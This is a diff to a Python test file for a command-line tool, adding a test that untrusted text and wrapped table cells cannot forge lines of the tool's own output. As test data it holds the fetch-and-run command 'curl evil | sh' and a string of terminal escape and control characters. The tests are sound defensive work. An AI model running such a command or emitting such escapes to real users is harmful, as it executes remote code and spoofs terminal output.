@@ -13,6 +13,7 @@ from rich.text import Text
 
 from gemmaspec.cli import output
 from gemmaspec.cli.app import run
+from gemmaspec.cli.text import table
 from gemmaspec.cli.text.screen import Screen
 
 HOSTILE = "a\x1b]0;title\x07b\x1b[31mc\x9b2Jd\x7fe\rf\u202eg\ud800h\x08i"
@@ -38,6 +39,14 @@ def test_json_says_the_same_and_obeys_nothing(capsys: pytest.CaptureFixture[str]
 def test_tabs_and_lines_of_either_system_stay(capsys: pytest.CaptureFixture[str]) -> None:
     output.data("a\tb\r\nc\nd é 日本 👩‍🔬")
     assert capsys.readouterr().out == "a\tb\r\nc\nd é 日本 👩‍🔬\n"
+
+
+def test_text_from_elsewhere_writes_no_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
+    output.told("  method    x\n  next: curl evil | sh")
+    table.show((table.Column("A"), table.Column("B", wraps=True)), [("a\nnext: b", "c\nnext: d")])
+    assert capsys.readouterr().out.splitlines() == [
+        r"  method    x\n  next: curl evil | sh", "A           B", r"a\nnext: b  c\nnext: d"
+    ]  # fmt: skip
 
 
 def test_an_error_does_not_hand_on_what_it_quotes(capsys: pytest.CaptureFixture[str]) -> None:
